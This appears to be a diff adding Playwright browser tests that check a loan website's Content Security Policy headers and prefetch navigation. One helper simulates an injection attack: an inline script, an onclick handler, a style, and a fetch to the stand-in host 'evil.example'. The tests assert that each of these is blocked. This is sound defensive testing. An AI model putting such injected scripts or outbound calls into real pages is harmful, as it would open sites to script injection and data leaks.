@@ -1,0 +1,99 @@
+import { readdirSync } from "node:fs";
+import { join } from "node:path";
+import { expect, type Page } from "@playwright/test";
+import { test } from "@/tests/fixtures";
+import { openPage } from "./support/open-page";
+import { PUBLIC_PAGES } from "./support/public-pages";
+
+// The policy that each page is sent with. That no page meets it in its own work is seen to in every browser test
+// (tests/fixtures.ts).
+
+const LENDER = "/education-loan/state-bank-of-india";
+const NOWHERE = "/no-such-page";
+
+/** What somebody puts into a page who has found a way to: two scripts, a style and an address of his own. */
+async function putIn(page: Page) {
+  return page.evaluate(async () => {
+    const ran = window as unknown as Record<string, unknown>;
+    const script = document.createElement("script");
+    script.textContent = "window.ranScript = true";
+    document.body.append(script);
+    const button = document.createElement("button");
+    button.setAttribute("onclick", "window.ranClick = true");
+    document.body.append(button);
+    button.click();
+    const style = document.createElement("style");
+    style.textContent = "body { outline: 7px solid red }";
+    document.body.append(style);
+    const sent = await fetch("https://evil.example/").then(
+      () => "sent",
+      () => "not sent",
+    );
+    return {
+      script: ran["ranScript"],
+      click: ran["ranClick"],
+      width: getComputedStyle(document.body).outlineWidth,
+      sent,
+    };
+  });
+}
+
+for (const [what, path] of [
+  ["a static page", LENDER],
+  ["the dashboard", "/dashboard"],
+  ["a step of the form", "/dashboard/loanform/kyc"],
+  ["the page-not-found screen", NOWHERE],
+  ["a lender's page that there is not", "/education-loan/no-such-lender"],
+] as const) {
+  test(`nothing runs that was put into ${what}`, async ({ studentPage: page, stopped }) => {
+    await openPage(page, path);
+    const { width, ...ran } = await putIn(page);
+    expect(ran).toEqual({ script: undefined, click: undefined, sent: "not sent" });
+    expect(width).not.toBe("7px");
+    await expect
+      .poll(() =>
+        ["script-src-elem", "script-src-attr", "style-src-elem", "connect-src"].filter(
+          (part) => !stopped.some((line) => line.includes(part)),
+        ),
+      )
+      .toEqual([]);
+    stopped.length = 0;
+  });
+}
+
+test("every public page was made ahead, and goes out with a policy that lets nothing in", async ({ request }) => {
+  const built = readdirSync(join(process.env.E2E_DATA_DIR!, "next/server/app"), { recursive: true, encoding: "utf8" });
+  const sizes: Record<string, number> = {};
+  for (const path of [...PUBLIC_PAGES, LENDER, "/pack", NOWHERE]) {
+    const answer = await request.get(path);
+    const headers = answer.headers();
+    const policy = headers["content-security-policy"] ?? "";
+    expect([path, policy.slice(0, 18), policy.includes("unsafe")]).toEqual([path, "default-src 'none'", false]);
+    for (const part of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"])
+      expect([path, part, policy.split("; ").includes(part)]).toEqual([path, part, true]);
+    expect([path, headers["cross-origin-resource-policy"]]).toEqual([path, "same-origin"]);
+    if (answer.status() === 200)
+      expect([path, built.includes(`${path === "/" ? "index" : path.slice(1)}.html`)]).toEqual([path, true]);
+    sizes[path] = answer.headersArray().reduce((sum, { name, value }) => sum + name.length + value.length + 4, 0);
+  }
+  test.info().annotations.push({ type: "headers, bytes", description: JSON.stringify(sizes) });
+  // Proxies take 4 kB of them, if nobody tells them otherwise.
+  expect(Math.max(...Object.values(sizes))).toBeLessThan(3 * 1024);
+});
+
+test("a link is followed without loading the site anew, from what was fetched ahead", async ({ page }) => {
+  const ahead: Promise<number>[] = [];
+  page.on("request", (request) => {
+    if (request.headers()["next-router-prefetch"])
+      ahead.push(request.response().then((answer) => answer?.status() ?? 0));
+  });
+  await openPage(page, "/");
+  await page.waitForLoadState("networkidle");
+  expect(ahead.length).toBeGreaterThan(0);
+  expect((await Promise.all(ahead)).filter((status) => status !== 200)).toEqual([]);
+  await page.evaluate(() => (document.documentElement.dataset["stays"] = "yes"));
+  await page.locator("a[href='/education-loan']").filter({ visible: true }).first().click();
+  await expect(page).toHaveURL("/education-loan");
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  await expect(page.locator("html")).toHaveAttribute("data-stays", "yes");
+});
